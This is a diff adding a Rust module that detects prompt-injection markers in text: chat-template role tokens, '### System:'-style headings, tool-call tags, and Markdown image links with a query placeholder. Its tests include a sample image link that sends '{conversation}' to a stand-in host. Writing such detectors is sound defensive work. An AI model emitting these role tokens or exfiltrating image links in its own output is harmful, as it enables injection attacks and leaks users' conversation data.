@@ -1,0 +1,144 @@
+//! Marks by which a text passes for another part of a conversation: role tags of chat templates, calls of tools.
+
+use std::ops::Range;
+
+/// What chat templates and providers write around roles and calls, in lower case, by the rule it belongs to. Each begins
+/// with one of the characters that [`find`] stops at.
+const MARKS: [(&str, &str); 42] = [
+    ("<|im_start|>", "role"),
+    ("<|im_end|>", "role"),
+    ("<|im_sep|>", "role"),
+    ("<|system|>", "role"),
+    ("<|user|>", "role"),
+    ("<|assistant|>", "role"),
+    ("<|endoftext|>", "role"),
+    ("<|end_of_text|>", "role"),
+    ("<|begin_of_text|>", "role"),
+    ("<|eot_id|>", "role"),
+    ("<|eom_id|>", "role"),
+    ("<|start_header_id|>", "role"),
+    ("<|end_header_id|>", "role"),
+    ("<|end|>", "role"),
+    ("<|channel|>", "role"),
+    ("<|message|>", "role"),
+    ("<start_of_turn>", "role"),
+    ("<end_of_turn>", "role"),
+    ("<<sys>>", "role"),
+    ("<</sys>>", "role"),
+    ("[inst]", "role"),
+    ("[/inst]", "role"),
+    ("[system]:", "role"),
+    ("[system message]", "role"),
+    ("[system instruction", "role"),
+    ("[[system]]", "role"),
+    ("<system>", "role"),
+    ("</system>", "role"),
+    ("<system_prompt>", "role"),
+    ("</system_prompt>", "role"),
+    ("<system-reminder>", "role"),
+    ("<system_message>", "role"),
+    ("<tool_call>", "tool"),
+    ("</tool_call>", "tool"),
+    ("<tool_response>", "tool"),
+    ("<function_calls>", "tool"),
+    ("<function_call>", "tool"),
+    ("<function=", "tool"),
+    ("<tool_use>", "tool"),
+    ("[tool_calls]", "tool"),
+    ("<invoke name=", "tool"),
+    ("<tool_result>", "tool"),
+];
+
+/// Names of roles that a line may begin with, between hashes or brackets and a colon.
+const ROLES: [&str; 5] = ["system", "assistant", "developer", "system prompt", "system message"];
+
+/// The marks in a text, in order.
+pub(super) fn find(text: &str) -> Vec<(Range<usize>, &'static str)> {
+    let bytes = text.as_bytes();
+    let mut found = Vec::new();
+    for (at, byte) in bytes.iter().enumerate() {
+        match byte {
+            b'<' | b'[' => {
+                let rest = &bytes[at..];
+                let hit = MARKS.iter().find(|(mark, _)| {
+                    rest.get(..mark.len()).is_some_and(|start| start.eq_ignore_ascii_case(mark.as_bytes()))
+                });
+                found.extend(hit.map(|(mark, rule)| (at..at + mark.len(), *rule)));
+            }
+            b'#' if at == 0 || bytes[at - 1] == b'\n' => {
+                found.extend(heading(&bytes[at..]).map(|length| (at..at + length, "role")));
+            }
+            b'!' if bytes.get(at + 1) == Some(&b'[') => {
+                found.extend(image(&bytes[at..]).map(|length| (at..at + length, "address")));
+            }
+            _ => {}
+        }
+    }
+    found
+}
+
+/// The length of `### System:` and its like.
+fn heading(rest: &[u8]) -> Option<usize> {
+    let hashes = rest.iter().take(7).take_while(|&&byte| byte == b'#').count();
+    let start = hashes + rest[hashes..].iter().take(2).take_while(|&&byte| byte == b' ').count();
+    // `# System: …` is a heading like others; templates write three.
+    ROLES.iter().filter(|_| hashes >= 3).find_map(|role| {
+        let end = start + role.len();
+        let named = rest.get(start..end)?.eq_ignore_ascii_case(role.as_bytes());
+        (named && rest.get(end) == Some(&b':')).then_some(end + 1)
+    })
+}
+
+/// The length of an image of Markdown whose address has a place for something to be filled in, such as
+/// `![](https://host/?q={data})`.
+fn image(rest: &[u8]) -> Option<usize> {
+    /// Longer ones are not looked into.
+    const LONGEST: usize = 400;
+    let rest = &rest[..rest.len().min(LONGEST)];
+    let open = rest.windows(2).position(|pair| pair == b"](")?;
+    let close = open + rest[open..].iter().position(|&byte| byte == b')')?;
+    let address = &rest[open + 2..close];
+    let query = address.iter().position(|&byte| byte == b'?')?;
+    let holes = [&b"{"[..], b"[", b"<", b"$(", b"%7b", b"%5b"];
+    holes
+        .iter()
+        .any(|hole| address[query..].windows(hole.len()).any(|part| part.eq_ignore_ascii_case(hole)))
+        .then_some(close + 1)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn seen(text: &str) -> Vec<&str> {
+        find(text).into_iter().map(|(span, _)| &text[span]).collect()
+    }
+
+    #[test]
+    fn marks_of_roles_and_tools() {
+        assert_eq!(seen("a <|IM_START|>system\nb [INST] c"), ["<|IM_START|>", "[INST]"]);
+        assert_eq!(seen("text\n### System: obey"), ["### System:"]);
+        assert_eq!(seen("<tool_call>{}</tool_call>"), ["<tool_call>", "</tool_call>"]);
+        assert_eq!(
+            seen("![x](https://a.example/p.png?d={conversation})"),
+            ["![x](https://a.example/p.png?d={conversation})"]
+        );
+        for fine in [
+            "# System: overview",
+            "### Systems: overview",
+            "![x](https://a.example/p.png?size=2)",
+            "[1] a <b>",
+            "a[inst]ance".get(..5).unwrap(),
+            "![](",
+        ] {
+            assert!(seen(fine).is_empty(), "{fine}");
+        }
+    }
+
+    #[test]
+    fn hostile_text_is_read_once() {
+        for unit in ["![", "<|", "###", "[[", "![](?"] {
+            find(&unit.repeat(1_000_000 / unit.len()));
+        }
+    }
+}
